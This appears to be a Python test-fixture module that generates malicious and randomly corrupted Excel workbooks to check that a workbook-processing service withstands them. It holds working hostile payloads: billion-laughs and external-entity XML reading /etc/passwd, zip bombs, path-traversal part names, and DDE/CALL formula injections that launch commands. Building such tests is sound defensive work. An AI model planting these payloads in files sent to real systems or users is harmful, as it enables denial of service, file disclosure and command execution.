"""Workbooks made to hurt: attacks thought out by hand, and honest workbooks with something broken at random.

Every one is a function of its name or number alone, so that a workbook that did harm can be made again.
"""

import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

from tests.made_workbooks import MAIN, parts, sheet_xml, workbook, zipped

SOURCES = (
    Path(__file__).parents[1] / "golden" / "index_desk.xlsx",
    Path(__file__).parents[2] / "workbook_templates" / "bond_risk.xlsx",
    Path(__file__).parents[2] / "workbook_templates" / "performance.xlsx",
)
"""Honest workbooks that mutants are made from: the small ones, the smallest most often."""

LAST = "XFD1048576"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + k)} "{f"&{chr(97 + k)};" * 10}">' for k in range(9)
)


def attack(name: str) -> bytes:
    """An attack of `ATTACKS` as a file."""
    return ATTACKS[name]()


def mutant(number: int) -> bytes:
    """An honest workbook with one to three things broken; equal numbers give equal bytes."""
    chosen = random.Random(f"mutant {number}")
    data = chosen.choices(SOURCES, (4, 1, 1))[0].read_bytes()
    if chosen.random() < 0.25:
        return _broken_bytes(data, chosen)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members: dict[str, str | bytes] = {name: archive.read(name) for name in archive.namelist()}
    honest, left = zipped(members), chosen.randint(1, 3)
    while left > 0 or zipped(members) == honest:
        chosen.choice(_BREAKS)(members, chosen)
        left -= 1
    return zipped(members)


def cells(*formulas: str, stored: str = "0") -> bytes:
    """A workbook with formulas down its first column."""
    rows = (
        f'<row r="{row}"><c r="A{row}"><f>{_escaped(text)}</f><v>{stored}</v></c></row>'
        for row, text in enumerate(formulas, start=1)
    )
    return workbook("".join(rows))


def with_names(names: Iterator[tuple[str, str]] | list[tuple[str, str]], *formulas: str) -> bytes:
    """A workbook with defined names."""
    made = _parts(cells(*formulas))
    listed = "".join(f'<definedName name="{name}">{_escaped(text)}</definedName>' for name, text in names)
    made["xl/workbook.xml"] = str(made["xl/workbook.xml"]).replace(
        "</workbook>", f"<definedNames>{listed}</definedNames></workbook>"
    )
    return zipped(made)


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _parts(data: bytes) -> dict[str, str | bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def _with(part: str, change: Callable[[str], str]) -> bytes:
    """A small workbook with one part changed."""
    made = _parts(cells("1+1", "A1*2"))
    made[part] = change(str(made.get(part, "")))
    return zipped(made)


def _laughing(part: str) -> bytes:
    return _with(part, lambda xml: xml.replace("?>\n", f"?>\n{_LAUGHS}]>", 1))


def _bomb(inflated: int) -> bytes:
    made = _parts(cells("1"))
    return zipped({**made, "xl/media/zeros.bin": b"\0" * inflated})


def _lying_bomb() -> bytes:
    """A part that says it is small and is not."""
    data = bytearray(_bomb(64 * 2**20))
    at = data.rindex(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 24, 1000)
    return bytes(data)


def _overlapping() -> bytes:
    """Fifty entries of the directory over the bytes of one part."""
    data = cells("1")
    end = data.rindex(b"PK\x05\x06")
    size, start = struct.unpack_from("<II", data, end + 12)
    directory = data[start : start + size]
    at = directory.rindex(b"PK\x01\x02")
    entry = bytearray(directory[at:])
    copies = b""
    for number in range(50):
        entry[46:48] = f"{number:02}".encode()
        copies += bytes(entry)
    count = struct.unpack_from("<H", data, end + 10)[0] + 50
    tail = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, size + len(copies), start, 0)
    return data[:start] + directory + copies + tail


def _duplicate() -> bytes:
    data = cells("1")
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("xl/Worksheets/SHEET1.xml")
        archive.writestr(info, sheet_xml('<row r="1"><c r="A1"><v>666</v></c></row>'))
    return out.getvalue()


def _names_that_climb() -> bytes:
    made = _parts(cells("1"))
    for name in ("../../../../tmp/evil.xml", "/etc/passwd", "C:\\evil.xml", "xl/../../evil.xml", "a\0b.xml"):
        made[name] = "<x/>"
    return zipped(made)


def _climbing_relation(target: str) -> bytes:
    return _with("xl/_rels/workbook.xml.rels", lambda xml: xml.replace("worksheets/sheet1.xml", target))


def _external() -> bytes:
    made = _parts(
        cells("[1]Other!A1", "'[1]Other'!B2*2", "'C:\\[evil.xlsx]S'!A1", "'\\\\server\\share\\[x.xlsx]S'!A1")
    )
    made["xl/externalLinks/externalLink1.xml"] = f'<externalLink xmlns="{MAIN}"/>'
    made["xl/_rels/workbook.xml.rels"] = str(made["xl/_rels/workbook.xml.rels"]).replace(
        "</Relationships>",
        f'<Relationship Id="rX" Type="{OFFICE}/externalLink" Target="http://example.invalid/x.xlsx" '
        'TargetMode="External"/></Relationships>',
    )
    return zipped(made)


def _many_sheets(count: int) -> bytes:
    return zipped(
        parts({f"S{n}": sheet_xml('<row r="1"><c r="A1"><f>1+1</f><v>2</v></c></row>') for n in range(count)})
    )


def _chain(length: int, first: str) -> bytes:
    """Each cell reads the one above it."""
    return cells(first, *(f"A{row}+1" for row in range(1, length)))


def _ring(length: int) -> bytes:
    return cells(f"A{length}+1", *(f"A{row}+1" for row in range(1, length)))


def _corner(formula: str) -> bytes:
    """A number in the first and one in the last cell of a sheet, and a formula."""
    return workbook(
        f'<row r="1"><c r="A1"><v>1</v></c><c r="B1"><f>{_escaped(formula)}</f><v>0</v></c></row>'
        f'<row r="1048576"><c r="{LAST}"><v>2</v></c></row>'
    )


def _doubling_names(levels: int, join: str = "+") -> list[tuple[str, str]]:
    first = [("Name0", "Sheet1!$B$1")]
    return first + [(f"Name{k}", f"Name{k - 1}{join}Name{k - 1}") for k in range(1, levels)]


def _shared_strings(items: str) -> bytes:
    return workbook('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', strings=items)


def _long_xml(size: int) -> bytes:
    return workbook('<row r="1"><c r="A1" t="inlineStr"><is><t>' + "x" * size + "</t></is></c></row>")


def _many_attributes() -> bytes:
    listed = " ".join(f'a{n}="{n}"' for n in range(100_000))
    return workbook(f'<row r="1"><c r="A1" {listed}><v>1</v></c></row>')


def _table(reference: str, columns: int) -> bytes:
    made = _parts(cells("SUM(T[c1])", "T[[#This Row],[c2]]", "SUM(T[])", "T[nothing]"))
    listed = "".join(f'<tableColumn id="{n}" name="c{n}"/>' for n in range(1, columns + 1))
    made["xl/tables/table1.xml"] = (
        f'<table xmlns="{MAIN}" id="1" name="T" displayName="T" ref="{reference}">'
        f'<tableColumns count="{columns}">{listed}</tableColumns></table>'
    )
    made["xl/worksheets/_rels/sheet1.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{OFFICE}/table" Target="../tables/table1.xml"/></Relationships>'
    )
    return zipped(made)


def _bad_crc() -> bytes:
    data = bytearray(cells("1"))
    at = data.rindex(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 16, zlib.crc32(b"something else"))
    return bytes(data)


def _arrays_on_sheets(count: int) -> bytes:
    whole = '<row r="1"><c r="A1"><f t="array" ref="A1:SR3900">1+1</f><v>2</v></c></row>'
    return zipped(parts({f"S{n}": sheet_xml(whole) for n in range(count)}))


def _shared_everywhere(count: int) -> bytes:
    rows = "".join(
        f'<row r="{r}"><c r="A{r}"><f t="shared" si="0"/><v>1</v></c></row>' for r in range(2, count)
    )
    long = "+".join(f"B{n}" for n in range(1, 1500))
    return workbook(
        f'<row r="1"><c r="A1"><f t="shared" si="0" ref="A1:A{count}">{long}</f><v>1</v></c></row>{rows}'
    )


ATTACKS: dict[str, Callable[[], bytes]] = {
    "nothing at all": lambda: b"",
    "four bytes": lambda: b"PK\x03\x04",
    "an end record alone": lambda: struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0, 0, 0, 0, 0),
    "an old workbook": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096,
    "an executable": lambda: b"MZ" + b"\x90" * 10_000,
    "cut in the middle": lambda: cells("1+1")[:400],
    "laughs in the workbook": lambda: _laughing("xl/workbook.xml"),
    "laughs in the sheet": lambda: _laughing("xl/worksheets/sheet1.xml"),
    "laughs in the content types": lambda: _laughing("[Content_Types].xml"),
    "laughs in the relations": lambda: _laughing("xl/_rels/workbook.xml.rels"),
    "a file of the machine as an entity": lambda: _with(
        "xl/workbook.xml",
        lambda xml: xml.replace("?>\n", '?>\n<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>', 1),
    ),
    "a zip bomb that says so": lambda: _bomb(300 * 2**20),
    "a zip bomb that lies": _lying_bomb,
    "parts over each other": _overlapping,
    "a part twice in other letters": _duplicate,
    "a wrong checksum": _bad_crc,
    "names that climb out": _names_that_climb,
    "a relation that climbs out": lambda: _climbing_relation("../../../../../etc/passwd"),
    "a relation to the machine": lambda: _climbing_relation("file:///etc/passwd"),
    "a relation to the relations": lambda: _climbing_relation("_rels/workbook.xml.rels"),
    "a relation to nowhere": lambda: _climbing_relation(""),
    "a sheet that is the workbook": lambda: _climbing_relation("workbook.xml"),
    "wrong content types": lambda: _with(
        "[Content_Types].xml", lambda xml: xml.replace("sheet.main", "comments")
    ),
    "no content types": lambda: _with("[Content_Types].xml", lambda _: "<Types/>"),
    "another root": lambda: _with("xl/workbook.xml", lambda _: "<html/>"),
    "two million sheets promised": lambda: _with(
        "xl/workbook.xml",
        lambda xml: xml.replace("<sheets>", "<sheets>" + '<sheet name="x" sheetId="9"/>' * 2000),
    ),
    "a sheet in UTF-7": lambda: _with("xl/worksheets/sheet1.xml", lambda xml: xml.replace("UTF-8", "UTF-7")),
    "a sheet in UTF-16 by its word": lambda: _with(
        "xl/worksheets/sheet1.xml", lambda xml: xml.replace("UTF-8", "UTF-16")
    ),
    "half an element": lambda: _with("xl/worksheets/sheet1.xml", lambda xml: xml[: len(xml) // 2]),
    "deep nesting": lambda: _with(
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace("</worksheet>", "<x>" * 100_000 + "</x>" * 100_000 + "</worksheet>"),
    ),
    "deep nesting in a cell": lambda: workbook(
        '<row r="1"><c r="A1"><v>1</v>' + "<x>" * 100_000 + "</x>" * 100_000 + "</c></row>"
    ),
    "a cell in a cell": lambda: workbook(
        '<row r="1"><c r="A1"><c r="B1"><v>1</v></c><f>1</f><v>2</v></c></row>'
    ),
    "a row in a row": lambda: workbook('<row r="1"><row r="2"><c r="A2"><v>1</v></c></row></row>'),
    "a hundred thousand attributes": _many_attributes,
    "a text of thirty megabytes": lambda: _long_xml(30 * 2**20),
    "an address of a million letters": lambda: workbook(
        f'<row r="1"><c r="{"A" * 10**6}1"><v>1</v></c></row>'
    ),
    "a row of a million digits": lambda: workbook(f'<row r="{"9" * 10**6}"/>'),
    "a number of a million digits": lambda: workbook(f'<row r="1"><c r="A1"><v>{"9" * 10**6}</v></c></row>'),
    "no number": lambda: workbook('<row r="1"><c r="A1"><v>nan</v></c><c r="B1"><v>1e999</v></c></row>'),
    "a text with a number too big": lambda: workbook(
        f'<row r="1"><c r="A1" t="s"><v>{"9" * 5000}</v></c></row>', strings="<si><t>x</t></si>"
    ),
    "a text before the first": lambda: workbook(
        '<row r="1"><c r="A1" t="s"><v>-1</v></c></row>', strings="<si><t>x</t></si>"
    ),
    "a text no parser likes": lambda: _shared_strings("<si><t>&#x0;</t></si>"),
    "texts in texts": lambda: _shared_strings("<si>" + "<r>" * 50_000 + "</r>" * 50_000 + "</si>"),
    "a million empty texts": lambda: _shared_strings("<si/>" * 1_000_000),
    "a corner and a sum": lambda: _corner(f"SUM(A2:{LAST})"),
    "a corner and our function": lambda: _corner(f"TRACKING_ERROR(A2:{LAST},C1:C2,D1:E2)"),
    "a corner and an array": lambda: _corner(f"SUMPRODUCT(A2:{LAST}*2)"),
    "a corner and a product": lambda: _corner("MMULT(A:A,1:1)"),
    "a corner and a column for a model": lambda: _corner("RISK_MODEL(A:C,D:F,G:G)"),
    "a corner and columns to optimise": lambda: _corner("TE_OPTIMIZE(A:A,C:ZZ)"),
    "a whole sheet as an array": lambda: _corner(f"SUM(IF(A2:{LAST}>1,1,0))"),
    "a sequence of everything": lambda: cells("SUM(SEQUENCE(1048576,16384))"),
    "a sequence in a sequence": lambda: cells("SUM(SEQUENCE(10000,10000)*SEQUENCE(10000,10000))"),
    "an array made large": lambda: cells("ROWS(EXPAND(1,1000000,10000,2))"),
    "an array of its own making": lambda: cells("SUM(MAKEARRAY(100000,10000,LAMBDA(a,b,a*b)))"),
    "a text that doubles": lambda: cells('REPT("x",32767)', *(f"A{row}&A{row}" for row in range(1, 40))),
    "a text repeated": lambda: cells('LEN(REPT(REPT("x",32767),32767))', 'REPT("ab",2000000000)'),
    "a number to a power": lambda: cells("9^9^9^9", "FACT(170)^99", "1/0", "SQRT(-1)", "COMBIN(1E9,5E8)"),
    "a base and a bit": lambda: cells("BASE(9007199254740991,2,255)", "BITLSHIFT(1,47)", "DEC2BIN(1E300)"),
    "a row of years": lambda: cells(
        "YEARFRAC(0,2958465)", "WORKDAY(1,2000000000)", "EDATE(1,1E12)", "DATE(1E9,1E9,1)"
    ),
    "rates without end": lambda: cells("RATE(1E9,1,1)", "IRR(A1:A9)", "PMT(1E-300,1E300,1)", "NPV(-1,1,2,3)"),
    "a function of itself": lambda: cells("LET(f,LAMBDA(g,n,g(g,n+1)),f(f,1))"),
    "brackets": lambda: cells("(" * 5000 + "1" + ")" * 5000),
    "signs": lambda: cells("-" * 100_000 + "1", "1" + "%" * 100_000, "@" * 1000 + "A1"),
    "a formula of a million terms": lambda: cells("+".join(["1"] * 1_000_000)),
    "a formula of fifty thousand cells": lambda: cells(
        "SUM(" + ",".join(f"B{n}" for n in range(1, 50_001)) + ")"
    ),
    "quotes without end": lambda: cells('"' * 100_001, "'" * 100_001, "'" + "a''" * 50_000 + "!A1"),
    "braces without end": lambda: cells("{" * 100_000, "{" + "1," * 200_000 + "1}", '{"' + 'x"",' * 50_000),
    "square brackets without end": lambda: cells("[" * 100_000, "T[" + "[a]," * 50_000, "T" + "['" * 50_000),
    "letters without end": lambda: cells("A" * 200_000, "A." * 100_000, "A!" * 50_000, "_" * 100_000 + "("),
    "digits without end": lambda: cells("1" * 200_000, "1:" * 50_000, "A1:" * 50_000 + "A1", "1E" * 50_000),
    "names in a circle": lambda: with_names(
        [("One", "Two"), ("Two", "Three"), ("Three", "One")], "One", "Two+1"
    ),
    "a name of itself": lambda: with_names([("One", "One+One")], "One"),
    "names that double": lambda: with_names(_doubling_names(60), "Name59"),
    "names that double as arguments": lambda: with_names(_doubling_names(60, ","), "SUM(Name59)"),
    "names that double as ranges": lambda: with_names(_doubling_names(60, ":"), "SUM(Name59)"),
    "a chain of ten thousand names": lambda: with_names(
        [("Name0", "1"), *((f"Name{k}", f"Name{k - 1}+1") for k in range(1, 10_000))], "Name9999"
    ),
    "a hundred thousand names": lambda: with_names([(f"Name{k}", "1") for k in range(100_000)], "Name5"),
    "a name of thirty megabytes": lambda: with_names([("Long", "1+" * (15 * 2**20) + "1")], "Long"),
    "a name for our function": lambda: with_names(
        [("TE_OPTIMIZE", "1+1"), ("SUM", "2")], "TE_OPTIMIZE(1)", "SUM(1)"
    ),
    "a ring of two": lambda: cells("A2", "A1"),
    "a ring of five thousand": lambda: _ring(5_000),
    "a ring of fifty thousand": lambda: _ring(50_000),
    "a ring through us": lambda: cells("TRACKING_ERROR(A1:A2,B1:B2,C1:D2)", "A1"),
    "two thousand rings": lambda: cells(*(f"A{row + 1 if row % 2 else row - 1}" for row in range(1, 4001))),
    "everything reads everything": lambda: cells(*("SUM(A:A)" for _ in range(3_000))),
    "a chain of twenty thousand": lambda: _chain(20_000, "1"),
    "a chain behind a stranger": lambda: _chain(20_000, "NOSUCHFUNCTION(1)"),
    "a chain behind another workbook": lambda: _chain(20_000, "[1]S!A1"),
    "links to elsewhere": _external,
    "commands": lambda: cells(
        'CALL("kernel32","WinExec","JJJ","calc",0)', 'DDE("cmd";"/C calc";"x")', "cmd|'/C calc'!A0"
    ),
    "the web": lambda: cells(
        'WEBSERVICE("http://example.invalid/"&A2)', 'HYPERLINK("file:///etc/passwd")', 'RTD("a","b")'
    ),
    "places that are computed": lambda: cells(
        *('SUM(INDIRECT("A1:XFD1048576"))', "SUM(OFFSET(A1,0,0,1E6,1E4))") * 5
    ),
    "volatile everywhere": lambda: cells(*("RAND()+NOW()" for _ in range(5_000))),
    "an array over the sheet": lambda: workbook(
        f'<row r="1"><c r="A1"><f t="array" ref="A1:{LAST}">1</f><v>1</v></c></row>'
    ),
    "large arrays on twenty sheets": lambda: _arrays_on_sheets(20),
    "arrays over each other": lambda: workbook(
        '<row r="1"><c r="A1"><f t="array" ref="A1:C3">1</f><v>1</v></c>'
        '<c r="B1"><f t="array" ref="B1:D9">2</f><v>1</v></c></row>'
    ),
    "an array backwards": lambda: workbook(
        '<row r="5"><c r="E5"><f t="array" ref="A1:B2">1</f><v>1</v></c></row>'
    ),
    "a shared formula that is long": lambda: _shared_everywhere(3_000),
    "a shared formula of nobody": lambda: workbook(
        '<row r="1"><c r="A1"><f t="shared" si="7"/><v>1</v></c></row>'
    ),
    "a what-if table over the sheet": lambda: workbook(
        f'<row r="1"><c r="A1"><f t="dataTable" ref="A1:{LAST}" dt2D="1" r1="B1" r2="C1"/><v>1</v></c></row>'
    ),
    "a table over the sheet": lambda: _table(f"A1:{LAST}", 16_384),
    "a table with more columns than cells": lambda: _table("C1:D4", 5_000),
    "a table on its own formulas": lambda: _table("A1:B4", 2),
    "five hundred sheets": lambda: _many_sheets(500),
    "five thousand parts": lambda: zipped(
        {**_parts(cells("1")), **{f"xl/x{n}.xml": "<x/>" for n in range(5_000)}}
    ),
    "fifteen thousand parts": lambda: zipped(
        {**_parts(cells("1")), **{f"x{n}.xml": "<x/>" for n in range(15_000)}}
    ),
    "a model of everything": lambda: cells(
        "RISK_MODEL(SEQUENCE(1000,1000),SEQUENCE(1000,1000),SEQUENCE(1000))"
    ),
    "a backtest of everything": lambda: cells("TE_BACKTEST(SEQUENCE(5000,200),SEQUENCE(200))"),
}
"""Attacks by what they are."""

_FORMULAS = (
    "1/0",
    "A1:XFD1048576",
    "INDIRECT(A1)",
    "SUM(A:A)",
    "#REF!",
    "1+",
    "((",
    "\x01",
    "TE_OPTIMIZE()",
    "A0",
    "",
)
_ADDRESSES = (
    "A0",
    "XFE1",
    "A1048577",
    "A1:XFD1048576",
    "",
    "1A",
    "A1:A1:A1",
    "$",
    "ZZZZ1",
    "A9999999999",
    "B2",
)
_NUMBERS = ("-1", "0", "999999999999", "1e400", "nan", "", "x", "2147483648", "0x10", "٣", "1.5")


def _broken_bytes(data: bytes, chosen: random.Random) -> bytes:
    """The file with raw bytes broken: cut, flipped, blanked, doubled or put elsewhere."""
    at = chosen.randrange(len(data))
    size = chosen.choice((1, 4, 30, 500))
    kind = chosen.randrange(6)
    if kind == 0:
        return data[:at]
    if kind == 1:
        return data[at:]
    if kind == 2:
        out = bytearray(data)
        for _ in range(size):
            out[chosen.randrange(len(out))] ^= 1 << chosen.randrange(8)
        return bytes(out)
    if kind == 3:
        return data[:at] + b"\0" * size + data[at + size :]
    if kind == 4:
        return data[:at] + data[at : at + size] * 2 + data[at + size :]
    # The directory is where a few bytes do most.
    out = bytearray(data)
    start = data.rindex(b"PK\x05\x06") - chosen.randrange(600)
    for place in range(start, min(start + 2, len(out))):
        out[place] = chosen.randrange(256)
    return bytes(out)


_Members = dict[str, str | bytes]


def _xml_part(members: _Members, chosen: random.Random) -> tuple[str, str]:
    """A part of XML, worksheets and the workbook most often."""
    names = sorted(name for name in members if name.endswith((".xml", ".rels")))
    weights = [6 if "sheet" in name else 4 if "workbook" in name else 1 for name in names]
    name = chosen.choices(names, weights)[0] if names else "xl/workbook.xml"
    content = members.get(name, "<x/>")
    return name, content if isinstance(content, str) else content.decode(errors="replace")


def _swap_matches(pattern: str, words: tuple[str, ...]) -> Callable[[_Members, random.Random], None]:
    """Put a nasty word into the first group of one to five matches of a pattern."""

    def change(members: _Members, chosen: random.Random) -> None:
        name, text = _xml_part(members, chosen)
        found = list(re.finditer(pattern, text))
        for match in sorted(
            chosen.sample(found, min(len(found), chosen.randint(1, 5))), key=lambda m: -m.start()
        ):
            text = text[: match.start(1)] + _escaped(chosen.choice(words)) + text[match.end(1) :]
        members[name] = text

    return change


def _lose_part(members: _Members, chosen: random.Random) -> None:
    if members:
        del members[chosen.choice(sorted(members))]


def _empty_part(members: _Members, chosen: random.Random) -> None:
    if members:
        members[chosen.choice(sorted(members))] = chosen.choice(
            ("", "<x/>", "\0" * 50, "<?xml version='1.0'?>")
        )


def _exchange_parts(members: _Members, chosen: random.Random) -> None:
    if len(members) > 1:
        one, other = chosen.sample(sorted(members), 2)
        members[one], members[other] = members[other], members[one]


def _drop_text(members: _Members, chosen: random.Random) -> None:
    name, text = _xml_part(members, chosen)
    at = chosen.randrange(len(text) + 1)
    members[name] = text[:at] + text[at + chosen.choice((1, 10, 300)) :]


def _drop_element(members: _Members, chosen: random.Random) -> None:
    name, text = _xml_part(members, chosen)
    found = list(re.finditer(r"<(\w+)\b[^>]*/>|<(\w+)\b[^>]*>[^<]*</\2>", text))
    if found:
        match = chosen.choice(found)
        members[name] = text[: match.start()] + text[match.end() :]


def _double_element(members: _Members, chosen: random.Random) -> None:
    name, text = _xml_part(members, chosen)
    found = list(re.finditer(r"<(\w+)\b[^>]*/>|<(\w+)\b[^>]*>[^<]*</\2>|<row\b.*?</row>", text))
    if found:
        match = chosen.choice(found)
        members[name] = text[: match.end()] + match[0] * chosen.choice((1, 1, 50)) + text[match.end() :]


def _insert_text(members: _Members, chosen: random.Random) -> None:
    name, text = _xml_part(members, chosen)
    nasty = (
        "<!DOCTYPE x>",
        "&nosuch;",
        "&#0;",
        "\x00",
        "<![CDATA[<c>]]>",
        "<!-- <row> -->",
        "<c/>",
        "]]>",
        "<?x?>",
        "￿",
    )
    at = chosen.randrange(len(text) + 1)
    members[name] = text[:at] + chosen.choice(nasty) + text[at:]


_BREAKS: tuple[Callable[[_Members, random.Random], None], ...] = (
    _lose_part,
    _empty_part,
    _exchange_parts,
    _drop_text,
    _drop_element,
    _double_element,
    _insert_text,
    _swap_matches(r"<f\b[^>]*>([^<]+)</f>", _FORMULAS),
    _swap_matches(r"<definedName[^>]*>([^<]+)<", _FORMULAS),
    _swap_matches(r'\b(?:r|ref|sqref)="([A-Z]+[0-9:A-Z]*)"', _ADDRESSES),
    _swap_matches(r'\b(?:r|si|s|cm|count|localSheetId|sheetId|id)="([0-9]+)"', _NUMBERS),
    _swap_matches(r"<v>([^<]+)</v>", (*_NUMBERS, "#N/A", "TRUE")),
    _swap_matches(
        r'\bt="(\w+)"', ("s", "e", "b", "str", "d", "inlineStr", "zz", "array", "shared", "dataTable")
    ),
    _swap_matches(
        r'\b(?:Target|PartName|Type|r:id|name)="([^"]+)"',
        ("", "../../../x", "file:///x", "/", "rId1", "a[b]"),
    ),
)
